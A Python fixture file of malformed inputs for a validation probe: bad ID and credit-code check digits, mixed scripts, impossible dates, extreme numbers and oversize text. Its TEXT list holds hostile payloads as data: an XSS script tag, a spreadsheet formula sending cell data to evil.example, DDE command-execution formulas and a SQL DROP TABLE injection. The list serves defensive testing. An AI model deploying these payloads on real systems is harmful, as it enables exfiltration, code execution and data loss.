"""The bad inputs a probe types: broken check digits, full-width and mixed scripts,
impossible and extreme dates, huge, negative and non-numeric amounts, oversize strings, XSS
and CSV-formula payloads."""

IDENTITY = [
    "222424196503151２34",  # one full-width digit
    "222424196503151235",  # wrong check digit
    "22242419650231123X",  # 31 February
    "２２２４２４１９６５０３１５１２３４",  # all full-width, wrong check digit
    "91222424MA0Y12340C",  # USCC with a wrong check character
    "９１222424MA0Y12340B",  # USCC half full-width
    "22242٤196503151234",  # an Arabic-Indic digit
    "张三ABC١٢٣",  # mixed scripts
]
DATES = [
    "9999-12-31",
    "0001-01-01",
    "1899-12-31",
    "2026-02-30",
    "2026-13-01",
    "２０２６-０１-０１",
    "9999-12",
    "-2026-01-01",
]
NUMBERS = [
    "1000000000000000000",  # 10^18
    "1e18",
    "-1",
    "-0.01",
    "NaN",
    "Infinity",
    "abc",
    "9" * 5000,
    "1,000",
]
TEXT = [
    "x" * 10_000,
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE counterhall_case; --",
    "\x00\x1b[31m",
    "🙂" * 50,
]
ALL = [*IDENTITY, *DATES, *NUMBERS, *TEXT]
